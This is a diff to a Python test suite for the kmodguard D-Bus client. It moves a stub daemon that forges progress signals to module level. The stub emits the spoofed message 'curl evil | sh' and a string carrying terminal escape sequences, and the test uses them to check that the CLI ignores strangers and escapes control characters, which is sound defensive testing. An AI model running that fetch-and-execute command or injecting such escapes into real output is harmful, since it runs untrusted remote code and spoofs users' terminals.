@@ -760,6 +760,33 @@ def test_a_daemon_that_loses_the_bus_exits_non_zero_with_one_line(started, bus):
     assert "Traceback" not in daemon.log_text()
 
 
+def _forging_daemon():
+    """The daemon's Fix as a stand-in that forges progress: a stranger's FixProgress first, then the
+    bus name owner's, with terminal control characters. Built once, at import: dbus_next parses
+    a method's annotations with ast.parse, which CPython 3.11.2 can fail ("AST constructor
+    recursion depth mismatch") when the cyclic GC runs a finalizer in the middle of it, as a test's
+    leftover futures do."""
+    from kmodguard import dbus as D
+
+    class ForgingDaemon(D.ServiceInterface):
+        def __init__(self, emit, stranger, own):
+            super().__init__(D.INTERFACE)
+            self.emit, self.stranger, self.own = emit, stranger, own
+
+        @D.method()
+        async def Fix(self, devices: 'as', options: 'a{sv}') -> 'is':  # noqa: F821
+            await self.emit(self.stranger, "forged: run curl evil | sh")
+            await self.stranger.call(D.Message(destination="org.freedesktop.DBus", path="/org/freedesktop/DBus",
+                                               interface="org.freedesktop.DBus", member="GetId"))  # flushed
+            await self.emit(self.own, "step install \x1b]0;owned\x07\x1b[2J" + "z" * 2000)
+            return [0, "{}"]
+
+    return ForgingDaemon
+
+
+ForgingDaemon = _forging_daemon()
+
+
 def test_kmodguard_fix_relays_progress_only_from_the_daemon_and_escaped(bus, monkeypatch):
     """Any connection may emit a signal named FixProgress: `kmodguard fix` takes progress only from
     the owner of org.kmodguard.Daemon1, and prints no terminal control characters from it."""
@@ -776,21 +803,8 @@ def test_kmodguard_fix_relays_progress_only_from_the_daemon_and_escaped(bus, mon
 
     async def scenario():
         stranger = await D.connect(bus.address)
-
-        class Stub(D.ServiceInterface):
-            def __init__(self):
-                super().__init__(D.INTERFACE)
-
-            @D.method()
-            async def Fix(self, devices: 'as', options: 'a{sv}') -> 'is':  # noqa: F821
-                await emit(stranger, "forged: run curl evil | sh")
-                await stranger.call(D.Message(destination="org.freedesktop.DBus", path="/org/freedesktop/DBus",
-                                              interface="org.freedesktop.DBus", member="GetId"))  # flushed
-                await emit(stub_bus, "step install \x1b]0;owned\x07\x1b[2J" + "z" * 2000)
-                return [0, "{}"]
-
         stub_bus = await D.connect(bus.address)
-        stub_bus.export(D.OBJECT_PATH, Stub())
+        stub_bus.export(D.OBJECT_PATH, ForgingDaemon(emit, stranger, stub_bus))
         assert await stub_bus.request_name(D.BUS_NAME) == D.RequestNameReply.PRIMARY_OWNER
         try:
             return await cli_client._fix([], {}, seen.append)
